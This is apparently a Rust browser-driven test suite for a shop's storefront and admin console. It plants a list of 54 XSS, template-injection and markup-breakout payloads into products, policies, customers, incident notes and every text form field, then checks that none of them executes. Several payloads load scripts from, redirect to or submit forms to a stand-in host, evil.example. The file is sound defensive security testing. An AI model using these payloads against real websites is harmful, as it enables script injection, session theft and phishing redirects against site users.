//! Texts that would run where a page takes a text for markup, a script, an address or a style: several dozen shapes, put wherever a shop's goods,
//! rules, customers and people can write something. Held here: each is read as the text that it is, in ten kinds of such places; and what is typed
//! into any text field of any form, which the pages themselves are asked for, runs on no page, whether it is taken or refused. That none runs on any
//! page of a shop that holds them everywhere is held by `reach.rs`.

use std::collections::BTreeSet;

use candor::access::{Actor, Role};
use candor::catalog::{Item, Sponsorship};
use candor::event::Customer;
use candor::monitor::Outcome;
use candor::oversight::{Act, Handling, Plan};
use candor::rerank::{Boost, Exclusion, Selector};
use candor::service::Service;
use fantoccini::{Client, Locator};
use serde_json::json;

use super::console::{leave_by, sign_in};
use super::forgery::proposal;
use super::places::{Known, PLACES};
use super::shop::few;
use super::visit::in_browser;

pub(crate) const HOSTILE: [&str; 54] = [
    // Elements.
    "<script>window.broken = 1</script>",
    "<ScRiPt>window.broken=1</sCrIpT >",
    "<script/x>window.broken=1</script/x>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.broken=1>",
    "<img/src='x'/onerror='window.broken=1'/>",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:window.broken=1 /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.broken=1</script>'></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror=window.broken=1></style></mtext></math>",
    "<details open ontoggle=window.broken=1>",
    "<iframe src=javascript:parent.broken=1></iframe>",
    "<object data=javascript:window.broken=1></object><embed src=//evil.example>",
    "<video><source onerror=window.broken=1></video><audio src onerror=window.broken=1>",
    "<body onload=window.broken=1><input autofocus onfocus=window.broken=1>",
    "<form action=//evil.example><button formaction=//evil.example>Go</button></form>",
    "<template shadowrootmode=open><script>window.broken=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.broken=1>\">",
    // Ends of what a text may stand in.
    "\"><script>window.broken = 1</script>",
    "'><img src=x onerror='window.broken = 1'>",
    "\" autofocus onfocus=\"window.broken = 1",
    "' onmouseover='window.broken = 1' x='",
    "\" style=\"position:fixed;inset:0\" onclick=\"window.broken=1",
    "` onerror=window.broken=1 `",
    "x onpointerenter=window.broken=1",
    "</title><script>window.broken = 1</script>",
    "</textarea></select></option><iframe srcdoc='<script>parent.broken = 1</script>'>",
    "</script><script>window.broken=1</script>",
    "{\"a\":\"</script><svg onload=window.broken=1>\"}",
    "]]><img src=x onerror=window.broken=1>",
    "--><img src=x onerror=window.broken=1><!--",
    "<!-- never closed",
    "<![CDATA[<img src=x onerror=window.broken=1>",
    "<?xml version='1.0'?><x onclick='window.broken=1'/>",
    "</p></li></td></table></main></body></html><h1>Over</h1>",
    // Addresses.
    "javascript:window.broken=1",
    "JaVaScRiPt://%0awindow.broken=1",
    "data:text/html,<script>parent.broken=1</script>",
    "<a href=\"javascript:window.broken=1\">x</a>",
    "<a href=\"jav&#x0A;ascript:window.broken=1\">x</a>",
    "../../console/sign-out?to=//evil.example#top",
    "%3Cscript%3Ewindow.broken=1%3C/script%3E",
    // Templates, words and styles.
    "{{ 7 * 7 }}{% include \"base.html\" %}",
    "{ $shop } { -brand } ${window.broken=1} #{7*7} <%= 7*7 %>",
    "<style>body { display: none }</style><base href=//evil.example>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=manifest href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>\u{202e}",
    // Letters that look like others, or stand for them.
    "&lt;script&gt;window.broken=1&lt;/script&gt;&#60;b&#62;&quot;&amp;amp;",
    "\u{ff1c}script\u{ff1e}window.broken=1\u{ff1c}/script\u{ff1e}",
    "<\u{200b}script>window.broken=1</\u{200b}script>\u{2066}\u{feff}",
    "+ADw-script+AD4-window.broken=1+ADw-/script+AD4-",
];

fn text(at: usize) -> String {
    HOSTILE[at % HOSTILE.len()].to_owned()
}

/// Puts hostile texts wherever the shop's goods, rules and customers hold a text.
pub(crate) fn poison(service: &Service) {
    let store = service.store();
    let mut shop = store.shop().expect("a shop");
    shop.name = text(0);
    store.put_shop(&shop).expect("a writable store");
    let revision = store.catalog_state().expect("a catalogue").revision;
    let (_, items) = store.items_at(revision).expect("items");
    let poisoned = items.iter().enumerate().map(|(at, item)| {
        let mut category = item.category.clone();
        category.push(text(at + 3));
        let attributes = [("type".to_owned(), text(at + 4)), ("colour".to_owned(), text(at + 5))].into();
        let sponsored = item.sponsored.as_ref().map(|_| Sponsorship { payer: text(at + 6) });
        let [title, brand, seller] = [0, 1, 2].map(|by| text(at + by));
        let (brand, seller) = (Some(brand), Some(seller));
        Item { title, brand, seller, category, attributes, sponsored, ..(**item).clone() }
    });
    store.put_items(&poisoned.collect::<Vec<_>>()).expect("sound items");
    let mut policy = service.policy("home").expect("a policy");
    policy.boosts.iter_mut().zip(HOSTILE).for_each(|(boost, text)| boost.label = text.to_owned());
    policy.groups.iter_mut().zip(HOSTILE).for_each(|(group, text)| group.name = text.to_owned());
    policy.exposures.iter_mut().zip(HOSTILE).for_each(|(rule, text)| rule.name = text.to_owned());
    store.put_policy(&policy).expect("a sound policy");
    let ids = store.customer_ids(None, 100).expect("customers");
    let known = ids.iter().filter_map(|id| store.customer(id).expect("readable")).enumerate();
    let with_segments = known.map(|(at, customer)| {
        let segment = text(at);
        Customer { segments: [("age_band".to_owned(), segment.clone()), (segment, "x".to_owned())].into(), ..customer }
    });
    store.put_customers(&with_segments.collect::<Vec<_>>()).expect("sound customers");
}

fn act(name: &str, role: Role, reason: &str) -> Act {
    Act {
        by: Actor { name: name.to_owned(), role },
        at: Service::now(),
        reason: Some(reason.to_owned()),
        known_to: Vec::new(),
    }
}

/// Every text as what people write at the console: notes on an incident by people of such names, questions of experiments, the first reason of a
/// proposal, and in one draft the names, payers and members of rules. The incident, and the draft.
fn written(service: &Service) -> (String, String) {
    let opened = act(HOSTILE[1], Role::Approver, HOSTILE[2]);
    let mut incident = service.open_incident(Some("home".to_owned()), HOSTILE[0], &opened).expect("opened");
    let mut policy = service.policy("home").expect("a policy");
    for (at, text) in HOSTILE.into_iter().enumerate() {
        let by = act(HOSTILE[(at + 7) % HOSTILE.len()], Role::Approver, text);
        incident = service.handle_incident(&incident.id, incident.revision, Handling::Note, &by).expect("noted");
        let plan = Plan {
            placement: "home".to_owned(),
            question: text.to_owned(),
            share: 0.5,
            outcome: Outcome::Clicks,
            fall_max: 0.2,
            days: 28,
        };
        service.draft_experiment(plan, None, &act(text, Role::Marketer, text)).expect("a draft");
        service.draft(policy.clone(), &act(text, Role::Marketer, text)).expect("a draft");
        let members = Selector { brands: [text.to_owned()].into(), ..Selector::default() };
        let paid_by = Some(text.to_owned());
        if at % 2 == 0 {
            policy.boosts.push(Boost {
                label: text.to_owned(),
                members,
                points: 0.1,
                paid_by,
                active: Default::default(),
            });
        } else {
            policy.exclusions.push(Exclusion { label: text.to_owned(), members, active: Default::default() });
        }
    }
    let draft = service.draft(policy, &act("Mara", Role::Marketer, "All of them.")).expect("a draft");
    (incident.id, draft.id)
}

/// Which of the texts are not what some element of a kind says, or some field of it holds. A text that is part of a longer one is not found there. Where
/// the console tells what the service may have written, backticks are shown as quotation marks.
async fn unread(client: &Client, selector: &str, left: &mut Vec<&'static str>) {
    let read = "const plain = (text) => text.replace(/\\s+/g, ' ').replace(/[`“”]/g, '\"').trim(); \
        const all = [...document.querySelectorAll(arguments[0])].map((one) => plain(one.value ?? one.textContent)); \
        const texts = arguments[1].map((text, at) => [plain(text), at]).sort(([a], [b]) => b.length - a.length); \
        const found = arguments[1].map(() => false); \
        for (let said of all) for (const [text, at] of texts) if (said.includes(text)) { \
          found[at] = true; said = said.replaceAll(text, '\\n'); } \
        return found;";
    let found = client.execute(read, vec![json!(selector), json!(HOSTILE.to_vec())]).await.expect("a page");
    let found: Vec<bool> = serde_json::from_value(found).expect("an answer for each");
    left.retain(|text| !HOSTILE.iter().zip(&found).any(|(known, is_found)| known == text && *is_found));
}

#[test]
fn every_hostile_text_is_read_as_a_text_in_ten_kinds_of_places() {
    let shop = few();
    poison(&shop.service);
    let (incident, draft) = written(&shop.service);
    let known = Known::of(&shop.service, &HOSTILE);
    let pages = |path: &str, pages: usize| (1..=pages).map(|no| format!("{path}?page={no}")).collect::<Vec<_>>();
    let places = [
        (None, "titles", ".grid .go", pages("/", 12)),
        (None, "brands", ".grid .maker", pages("/", 12)),
        (None, "topics", "#topic option", vec!["/shop/you".to_owned()]),
        (Some("Tomas"), "notes", "blockquote", vec![format!("/console/incidents/{incident}")]),
        (Some("Tomas"), "names of people", ".history p", vec![format!("/console/incidents/{incident}")]),
        (Some("Tomas"), "questions", ".list th a", pages("/console/experiments", 4)),
        (Some("Mara"), "reasons", ".list .said", pages("/console/policies/home", 4)),
        (Some("Mara"), "rules", "[name$='.label']", vec![format!("/console/tune/home?proposal={draft}")]),
        (Some("Mara"), "members", "[name$='members.brands']", vec![format!("/console/tune/home?proposal={draft}")]),
        (Some("Mara"), "differences", ".diff ins", vec![format!("/console/policies/home/{draft}")]),
    ];
    in_browser(shop, |client, address| async move {
        let mut who = None;
        for (eye, what, selector, paths) in places {
            if let Some(name) = eye.filter(|_| eye != who) {
                sign_in(&client, &address, name).await;
                who = eye;
            }
            let mut left = HOSTILE.to_vec();
            for path in paths {
                if left.is_empty() {
                    break;
                }
                client.goto(&format!("{address}{}", known.address(&path))).await.expect("a page");
                super::reach::nothing_ran(&client, &path).await;
                unread(&client, selector, &mut left).await;
            }
            assert_eq!(left, Vec::<&str>::new(), "{what}");
        }
    });
}

/// The text fields of a page by what they belong to: a form, or one rule of it. Each has a name without what differs from run to run. The first that
/// is not among those that are done is made ready: its fields are marked, what else the form asks for is filled in.
const CHOOSE: &str = "for (const one of document.querySelectorAll('details')) one.open = true; \
    const told = 'textarea, input:not([type]), input[type=text], input[type=search], input[type=password], input[type=email], input[type=url], input[type=tel]'; \
    const plain = (text) => text.split(/[/.]/).map((part) => /\\d/.test(part) ? '*' : part).join('/'); \
    const units = new Map(); \
    for (const form of document.forms) for (const field of form.elements) if (field.matches(told) && field.name && !field.disabled && !field.readOnly && field.checkVisibility()) { \
        const rule = field.closest('details.one') ?? form; \
        if (!units.has(rule)) units.set(rule, { form, rule, fields: [] }); \
        units.get(rule).fields.push(field); } \
    const all = [...units.values()].map((unit) => ({ ...unit, name: [plain(new URL(unit.form.getAttribute('action') ?? '', location).pathname), \
        unit.form.querySelector('[name=action]')?.value ?? '', ...unit.fields.map((field) => plain(field.name))].join(' ') })); \
    const next = all.find(({ name }) => !arguments[0].includes(name)); \
    if (next) { \
        next.fields.forEach((field, at) => { field.dataset.typed = at; field.value = ''; }); \
        for (const field of next.rule.querySelectorAll('input[type=number]')) if (field.value === '') field.value = 1; \
        for (const field of next.form.querySelectorAll('[type=radio], [type=checkbox][required]')) if (field.required) { \
            if (!next.form.querySelector(`[name=\"${field.name}\"]:checked`)) field.checked = true; } \
        (next.form.querySelector('button.main') ?? next.form.querySelector('button')).dataset.pressed = ''; } \
    return [all.map(({ name }) => name), next?.name ?? null, next?.fields.map((field) => [field.name, field.maxLength]) ?? []];";

/// Types hostile texts into every text field of a page that was not typed into before, form by form and rule by rule, and sends each.
async fn type_everywhere(client: &Client, page: &str, (seen, done): (&mut BTreeSet<String>, &mut Vec<String>)) {
    loop {
        client.goto(page).await.expect("a page");
        let told = client.execute(CHOOSE, vec![json!(done)]).await.expect("the fields of a page");
        let (all, next, fields): (Vec<String>, Option<String>, Vec<(String, i64)>) =
            serde_json::from_value(told).expect("names");
        seen.extend(all);
        let Some(name) = next else { return };
        for (at, (field, length)) in fields.iter().enumerate() {
            let typed = text(done.len() * 7 + at);
            // Of attributes the form wants a name and a value.
            let typed = if field.ends_with("attributes") { format!("a={typed}") } else { typed };
            let field = format!("[data-typed='{at}']");
            let found = client.find(Locator::Css(&field)).await.expect("a field");
            let to = "arguments[0].scrollIntoView({ block: 'center' })";
            client.execute(to, vec![serde_json::to_value(&found).expect("plain data")]).await.expect("a look");
            found.send_keys(&typed).await.unwrap_or_else(|cause| panic!("{name} {field}: {cause}"));
            let holds = found.prop("value").await.expect("a field").unwrap_or_default();
            assert!(*length >= 0 || holds == typed, "{name}: {holds} is not {typed}");
            assert!(!holds.is_empty(), "{name}");
        }
        leave_by(client, "[data-pressed]").await;
        super::reach::nothing_ran(client, &name).await;
        done.push(name);
    }
}

#[test]
fn what_is_typed_into_any_text_field_runs_on_no_page() {
    let shop = few();
    let service = std::sync::Arc::clone(&shop.service);
    // What is refused cannot be published, and the other way round: one more that somebody approved.
    let approved = (Some("Tomas"), format!("/console/policies/home/{}", proposal(&service, 7).id));
    let known = Known::of(&shop.service, &["Zora", "A.", "Zeno", "B.", "C", "D.", "E?", "F."]);
    in_browser(shop, |client, address| async move {
        let (mut seen, mut done, mut who) = (BTreeSet::new(), Vec::new(), None);
        let enter = async |eye: Option<&'static str>, who: &mut Option<&'static str>| {
            if let Some(name) = eye.filter(|_| eye != *who) {
                sign_in(&client, &address, name).await;
                *who = eye;
            }
        };
        let pages = PLACES.map(|(eye, path)| (eye, known.address(path)));
        for (eye, path) in std::iter::once(approved).chain(pages) {
            enter(eye, &mut who).await;
            type_everywhere(&client, &format!("{address}{path}"), (&mut seen, &mut done)).await;
        }
        assert_eq!(seen, done.iter().cloned().collect(), "every field that was seen was typed into");
        assert!(done.len() > 20, "{done:?}");
        let kept = service.proposals("home", None, 1_000).expect("readable").len();
        assert!(kept > 4, "much of it was taken: {kept}");
        for (eye, path) in PLACES {
            enter(eye, &mut who).await;
            let path = known.address(path);
            client.goto(&format!("{address}{path}")).await.expect("a page");
            super::reach::nothing_ran(&client, &path).await;
        }
    });
}
